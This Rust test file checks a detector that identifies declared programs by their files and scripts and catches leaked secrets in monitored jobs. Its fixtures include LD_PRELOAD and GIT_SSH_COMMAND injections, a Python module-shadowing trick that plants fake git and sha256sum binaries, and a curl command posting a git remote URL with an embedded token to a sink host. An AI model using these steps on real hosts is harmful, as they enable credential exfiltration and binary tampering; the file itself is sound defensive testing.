//! Declared programs on a real host: known by their files, by their scripts, and by nothing else.

use detector::event::{Body, Exec};
use detector_common::command::line;
use detector_tests::{scene::Scene, watched::Watched};
use std::{fs, os::unix::fs::PermissionsExt as _, path::Path, process::Command};

type Result = anyhow::Result<()>;

/// What `text` runs, with the names of the declared program, and of the script that was opened.
struct Told {
    execs: Vec<(Exec, String)>,
    scripts: Vec<String>,
}

fn tell(scene: &Scene, text: &str) -> anyhow::Result<Told> {
    let watched = Watched::run(scene, &scene.job(["sh", "-c", text]))?;
    let programs = &watched.recording.header.policy.document.programs;
    let name = |number: u16| {
        let program = usize::from(number).checked_sub(1).and_then(|at| programs.get(at));
        program.map_or(String::new(), |program| program.name.clone())
    };
    let execs = watched.recording.execs().map(|(_, exec)| (exec.clone(), name(exec.program))).collect();
    let opened =
        watched.recording.acts(|body| if let Body::Script(script) = body { Some(script.program) } else { None });
    Ok(Told { execs, scripts: opened.map(|(_, number)| name(number)).collect() })
}

impl Told {
    /// The last exec of a program called `leaf`.
    #[track_caller]
    fn last(&self, leaf: &str) -> (&Exec, &str) {
        let is = |exec: &Exec| {
            Path::new(&exec.path).file_name().is_some_and(|name| name.to_string_lossy().starts_with(leaf))
        };
        let found = self.execs.iter().rev().find(|(exec, _)| is(exec));
        found.map_or_else(|| panic!("no {leaf} was run"), |(exec, name)| (exec, name.as_str()))
    }
}

fn executable(path: &Path, text: &[u8]) -> Result {
    fs::write(path, text)?;
    Ok(fs::set_permissions(path, fs::Permissions::from_mode(0o755))?)
}

#[test]
fn programs_are_known_by_their_files() -> Result {
    let scene = Scene::new()?;
    let told = tell(&scene, "cd /; git --version; sha256sum /etc/passwd; env true; env")?;
    for (leaf, name) in [("git", "git"), ("sha256sum", "checksum"), ("env", "env")] {
        assert_eq!(told.last(leaf).1, name);
    }
    assert_eq!(told.last("git").0.line, line::QUIET);
    assert_eq!(told.last("sha256sum").0.line, line::QUIET);
    assert_eq!(told.last("env").0.line, line::DUMPS);
    assert_eq!(told.execs[0].1, "shell", "{:?}", told.execs[0]);
    Ok(())
}

#[test]
fn a_copy_is_another_program() -> Result {
    let scene = Scene::new()?;
    let own = tempfile::tempdir()?;
    let copy = own.path().join("git");
    let told = tell(&scene, &format!("cp $(command -v git) {0} && {0} --version", copy.display()))?;
    let (exec, name) = told.last("git");
    assert_eq!((exec.path.as_str(), name, exec.line), (&*copy.to_string_lossy(), "", 0));
    Ok(())
}

#[test]
fn what_is_injected_into_counts_for_nothing() -> Result {
    let scene = Scene::new()?;
    for variable in ["LD_PRELOAD=", "GIT_CONFIG_COUNT=0", "GIT_SSH_COMMAND=x", "GIT_TRACE2_EVENT=0"] {
        assert!(tell(&scene, &format!("{variable} git --version"))?.last("git").0.injected, "{variable}");
    }
    // The twin: what honest builds set.
    for variable in ["GIT_TERMINAL_PROMPT=0", "GIT_AUTHOR_NAME=x", "LD_LIBRARY_PATH=/x", "NODE_OPTIONS=x"] {
        assert!(!tell(&scene, &format!("{variable} git --version"))?.last("git").0.injected, "{variable}");
    }
    Ok(())
}

#[test]
fn scripts_are_known_by_the_file_that_is_opened() -> Result {
    let scene = Scene::new()?;
    let told = tell(&scene, "cd /; npm --version; twine --version; python3 -m pip --version")?;
    assert_eq!(told.scripts, ["npm", "twine", "pip"]);
    let quiet: Vec<_> = told.execs.iter().filter(|(exec, _)| exec.script != 0).map(|(exec, _)| exec.line).collect();
    assert_eq!(quiet, [line::QUIET; 3]);
    Ok(())
}

#[test]
fn a_script_of_the_same_name_is_another_one() -> Result {
    let scene = Scene::new()?;
    let own = tempfile::tempdir()?;
    let script = own.path().join("npm-cli.js");
    executable(&script, b"#!/usr/bin/env node\n")?;
    let told = tell(&scene, &format!("{0} --version; node {0} --version", script.display()))?;
    assert!(told.execs.iter().any(|(exec, _)| exec.script != 0), "its name names the script");
    assert_eq!(told.scripts, ["", ""]);
    Ok(())
}

/// The steps of `text`, in a directory of their own that is no directory of programs.
fn in_place(text: &str) -> anyhow::Result<Told> {
    let scene = Scene::new()?;
    let own = tempfile::tempdir()?;
    let told = tell(&scene, &format!("cd {} && {text}", own.path().display()))?;
    Ok(told)
}

#[test]
fn what_an_installer_installs_is_declared() -> Result {
    let told = in_place("/usr/bin/python3 -m venv v && v/bin/pip --version && v/bin/python -m pip --version")?;
    // `-m venv`, which asks for `-m ensurepip`, counts as pip: it makes pip, and nothing else.
    let pips = told.scripts.iter().filter(|name| *name == "pip").count();
    assert_eq!((told.scripts.len(), pips), (4, 4), "{:?}", told.scripts);
    Ok(())
}

#[test]
fn what_others_write_in_its_place_is_not() -> Result {
    let told =
        in_place("/usr/bin/python3 -m venv v && echo 'print(1)' > v/bin/pip && v/bin/python v/bin/pip --version")?;
    assert_eq!(told.scripts.last().map(String::as_str), Some(""), "{:?}", told.scripts);
    // Nor what any other script makes.
    let told = in_place(
        "mkdir -p v/bin && /usr/bin/python3 -c 'open(\"v/bin/pip\", \"w\").write(\"print(1)\")' && python3 v/bin/pip --version",
    )?;
    assert_eq!(told.scripts, [""], "{:?}", told.scripts);
    Ok(())
}

/// Who makes pip makes no other program, whatever ran in it before it was known.
#[test]
fn what_renews_pip_makes_nothing_else() -> Result {
    let shadow = "import shutil\nshutil.copy('/usr/bin/true', 'sha256sum')\nshutil.copy('/usr/bin/true', 'git')\n";
    // The directory comes first where Python looks for modules: this runs in `-m venv` itself.
    let told = in_place(&format!(
        "printf \"{}\" > logging.py && /usr/bin/python3 -m venv v; ls && ./sha256sum x; ./git --version",
        shadow.replace('\n', "\\n")
    ))?;
    for leaf in ["sha256sum", "git"] {
        assert_eq!(told.last(leaf).1, "", "{leaf}");
    }
    Ok(())
}

/// What a step sends that asked git where the repository came from, whose URL is `url`.
fn asks_for_the_remote(url: &str, line: &str) -> anyhow::Result<(Vec<String>, Vec<u8>)> {
    let scene = Scene::new()?;
    // Before the job: what its own command line has is nothing new.
    for arguments in [&["init", "-q"][..], &["remote", "add", "origin", url]] {
        let set = Command::new("git").arg("-C").arg(scene.home.workspace()).args(arguments).status()?;
        assert!(set.success());
    }
    let script = format!(
        "git -C \"$HOME/work/project\" {line} | curl -s -o /dev/null --max-time 10 -d @- \"http://$SINK/report\"; true"
    );
    let watched = Watched::run(&scene, &scene.job(["bash", "-c", &script]).mode("enforce"))?;
    let leaks = watched.leaks().flat_map(|leak| leak.secret.clone()).collect();
    Ok((leaks, scene.sink.bytes()))
}

#[test]
fn what_git_says_of_a_remote_is_searched() -> Result {
    let lines = ["config --get remote.origin.url", "remote get-url origin", "remote -v"];
    for line in lines {
        // The twin first: nothing in it, and it arrives.
        for url in
            ["https://forge.example/acme/app.git", "git@forge.example:acme/app.git", "ssh://git@forge.example:22/a.git"]
        {
            let (leaks, arrived) = asks_for_the_remote(url, line)?;
            assert_eq!(leaks, [""; 0], "{line}: {url}");
            assert!(String::from_utf8_lossy(&arrived).contains("forge.example"), "{line}: {url} did not arrive");
        }
        // A token, and a password that looks like none.
        let token = detector_tests::canary::Canary::fresh("remote")?;
        for url in
            [format!("https://{}@forge.example/app.git", token.value()), "https://ci:hunter2@forge.example/".into()]
        {
            let (leaks, arrived) = asks_for_the_remote(&url, line)?;
            assert_eq!((leaks, arrived.len()), (vec!["git".to_owned()], 0), "{line}: {url}");
        }
    }
    Ok(())
}
